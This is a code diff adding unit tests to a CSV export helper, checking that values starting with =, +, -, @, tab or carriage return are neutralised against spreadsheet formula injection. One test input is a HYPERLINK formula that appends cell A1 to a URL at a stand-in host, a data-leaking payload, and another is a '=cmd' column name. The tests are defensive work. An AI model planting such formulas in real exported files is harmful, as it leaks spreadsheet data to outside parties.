@@ -19,6 +19,28 @@ describe('csvField', () => {
     expect(csvField(value)).toBe(expected);
   });
 
+  it.each([
+    [
+      '=HYPERLINK("http://x.example/?"&A1,"open")',
+      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`,
+    ],
+    ['+1+2', `"'+1+2"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['=', `"'="`],
+  ])('neutralises %j, which a spreadsheet would run, as %s', (value, expected) => {
+    expect(csvField(value)).toBe(expected);
+  });
+
+  it('leaves formula characters alone when they do not start the text, and numbers as they are', () => {
+    expect(csvField('a=b+c')).toBe('a=b+c');
+    expect(csvField(' =1')).toBe(' =1');
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(-1.5e-7)).toBe('-1.5e-7');
+  });
+
   it('writes nested values as JSON, quoted as needed', () => {
     expect(csvField(['friends', 'work'])).toBe('"[""friends"",""work""]"');
     expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
@@ -33,5 +55,9 @@ describe('csvLine', () => {
     expect(csvLine(columns, { groups: ['a'], jid: 'x@example.org', extra: 'dropped' })).toBe(
       'x@example.org,,"[""a""]"\r\n',
     );
+  });
+
+  it('neutralises a column name a spreadsheet would run', () => {
+    expect(csvHeader(['jid', '=cmd'])).toBe(`jid,"'=cmd"\r\n`);
   });
 });
